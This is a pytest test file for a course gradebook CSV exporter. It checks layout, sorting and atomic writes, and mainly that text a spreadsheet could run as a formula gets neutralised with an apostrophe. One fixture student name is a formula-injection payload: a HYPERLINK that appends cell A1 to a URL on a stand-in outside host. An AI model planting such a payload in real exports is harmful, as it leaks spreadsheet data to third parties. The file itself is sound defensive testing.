"""The gradebook: what a teacher sees in a spreadsheet, and what a spreadsheet must not run."""

import csv
import os
import random

import pytest

from lockstep.grade.model import Student
from lockstep.grade.reports import files
from lockstep.grade.reports.gradebook import write_gradebook
from lockstep.grade.reports.spreadsheet import FORMULA, csv_bytes, harmless, original
from tests.grade.samples import EVERY_STATE, exercise, submission

ZOE = Student("zoë", "Zoë Adeyemi")
MALLORY = Student("=2+5", '=HYPERLINK("http://example.org/?"&A1;"click")')


@pytest.fixture
def read(tmp_path):
    """Return a function that writes a gradebook and gives back its rows by header."""

    def written(*results):
        path = tmp_path / "grades" / "gradebook.csv"
        write_gradebook(path, iter(results))
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.DictReader(file))

    return written


def test_a_graded_submission_has_its_sum_and_a_cell_for_each_exercise(read):
    (row,) = read(
        submission(*EVERY_STATE, handed_in="2026-11-20T18:03:00+01:00", notes=("Two files.",))
    )
    assert list(row.items())[:8] == [
        ("student", "anna.jung"),
        ("name", "Anna Jünger"),
        ("notebook", "04_simple_net_pytorch"),
        ("state", "graded"),
        ("points", "2.5"),
        ("out of", "19"),
        ("percent", "13.2"),
        ("handed in (UTC)", "2026-11-20 17:03"),
    ]
    assert list(row.items())[8:] == [
        ("softmax (2)", "0"),
        ("cross_entropy (3)", "1.5"),
        ("accuracy (1)", "1"),
        ("carry_weights (2)", "not attempted"),
        ("translate_step (3)", "error"),
        ("debug_port (4)", "time limit"),
        ("training_step (4)", "memory limit"),
        ("notes", "Two files."),
    ]


@pytest.mark.parametrize("state", ["missing", "unreadable"])
def test_a_submission_that_was_not_graded_has_no_points_and_not_zero(read, state):
    rows = read(
        submission(exercise()),
        submission(student=ZOE, state=state, reason="The file is empty.", notes=("Seen twice.",)),
    )
    assert rows[1]["state"] == state
    assert [rows[1][name] for name in ("points", "out of", "percent", "softmax (2)")] == [""] * 4
    assert rows[1]["notes"] == "The file is empty. · Seen twice."


def test_an_exercise_without_an_answer_says_so_and_a_wrong_one_has_zero(read):
    (row,) = read(submission(exercise(state="not attempted", points=0), exercise("b", "wrong", 0)))
    assert (row["softmax (2)"], row["b (2)"]) == ("not attempted", "0")


def test_an_exercise_that_got_points_shows_them_whatever_ended_it(read):
    (row,) = read(submission(exercise(state="time limit", points=0.5)))
    assert row["softmax (2)"] == "0.5"


def test_the_frameworks_of_a_lesson_share_columns_and_lessons_do_not(read):
    rows = read(
        submission(exercise("softmax"), notebook="04_simple_net_keras"),
        submission(exercise("softmax", points=1), notebook="04_simple_net_pytorch"),
        submission(exercise("softmax", out_of=5), notebook="01_tensors_keras"),
    )
    header = "04_simple_net: softmax (2)"
    assert [row[header] for row in rows] == ["", "2", "1"]
    assert list(rows[0])[8:-1] == ["01_tensors: softmax (5)", header]


def test_points_that_changed_between_results_stand_in_no_header(read):
    rows = read(submission(exercise(out_of=2)), submission(exercise(out_of=3), student=ZOE))
    assert [row["softmax"] for row in rows] == ["2", "2"]


def test_rows_are_sorted_by_name_and_the_order_of_the_results_changes_nothing(tmp_path):
    results = [
        submission(exercise(), student=ZOE),
        submission(exercise()),
        submission(notebook="x"),
    ]
    for number, order in enumerate((results, results[::-1])):
        write_gradebook(tmp_path / f"{number}.csv", order)
    first = (tmp_path / "0.csv").read_bytes()
    assert first == (tmp_path / "1.csv").read_bytes()
    assert first.index(b"anna.jung") < first.index("zoë".encode())


def test_an_accent_does_not_move_a_name_to_the_end(read):
    names = ["Zoe", "Émile", "Anna", "Lukas", "Lê"]
    rows = read(*[submission(exercise(), student=Student(name, name)) for name in names])
    assert [row["name"] for row in rows] == ["Anna", "Émile", "Lê", "Lukas", "Zoe"]


def test_no_results_make_a_gradebook_with_headers_alone(read, tmp_path):
    assert read() == []
    assert (
        (tmp_path / "grades/gradebook.csv").read_text(encoding="utf-8-sig").startswith('"student"')
    )


def test_a_formula_in_a_name_is_made_harmless_and_can_be_had_back(read):
    (row,) = read(submission(exercise(), student=MALLORY, notes=("@SUM(1)",)))
    for name, text in (("student", MALLORY.key), ("name", MALLORY.name), ("notes", "@SUM(1)")):
        assert row[name] == "'" + text
        assert original(row[name]) == text


def test_every_field_is_quoted_and_the_file_begins_with_a_byte_order_mark(tmp_path):
    write_gradebook(tmp_path / "g.csv", [submission(exercise())])
    content = (tmp_path / "g.csv").read_bytes()
    assert content.startswith(b'\xef\xbb\xbf"student","name"')
    for line in content.decode("utf-8-sig").split("\r\n")[:-1]:
        assert all(field[0] == field[-1] == '"' for field in line.split(","))


@pytest.mark.parametrize(
    "space", ["", " ", "\t", "\r", "\n", "\u00a0", "\u3000", '"', "'", "\ufeff"]
)
@pytest.mark.parametrize("sign", "=+-@＝＋－＠")
def test_what_a_spreadsheet_could_take_for_a_formula_gets_an_apostrophe(sign, space):
    assert harmless(f"{space}{sign}1").startswith("'")
    assert original(harmless(f"{space}{sign}1")) == f"{space}{sign}1"


@pytest.mark.parametrize(
    "text", ["", "Zoë", "O'Neil", "a-b", "a=b", "'quoted'", " x", "3.5", "a, -1"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


def test_a_spreadsheet_that_splits_at_semicolons_or_lines_finds_no_formula_either():
    assert harmless("a;=1+1") == "a;'=1+1"
    assert harmless("a\n=1+1\t-2") == "a\n'=1+1\t'-2"


def test_every_text_reads_back_to_the_original():
    generator = random.Random(4)
    letters = FORMULA.replace("\\", "") + " \t\r\n;'\"\u3000aö"
    texts = ["".join(generator.choices(letters, k=generator.randrange(9))) for _ in range(20_000)]
    read = csv.reader(csv_bytes([texts]).decode("utf-8-sig").splitlines(keepends=True))
    assert [original(cell) for row in read for cell in row] == texts
    assert len({harmless(text) for text in texts}) == len(set(texts))


def test_what_utf_8_cannot_hold_is_replaced(read):
    (row,) = read(submission(exercise(), student=Student("a\ud800", "b\x00c")))
    assert (row["student"], row["name"]) == ("a\ufffd", "b\ufffdc")


def test_endless_notes_are_cut_short(read):
    (row,) = read(submission(exercise(), notes=("x" * 100_000,)))
    assert len(row["notes"]) == 2000


def test_a_gradebook_that_cannot_be_finished_leaves_the_old_one(tmp_path, monkeypatch):
    path = tmp_path / "gradebook.csv"
    path.write_text("old")

    def full(*names):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "replace", full)
    with pytest.raises(OSError, match="No space"):
        write_gradebook(path, [submission(exercise())])
    assert path.read_text() == "old"
    assert os.listdir(tmp_path) == ["gradebook.csv"]
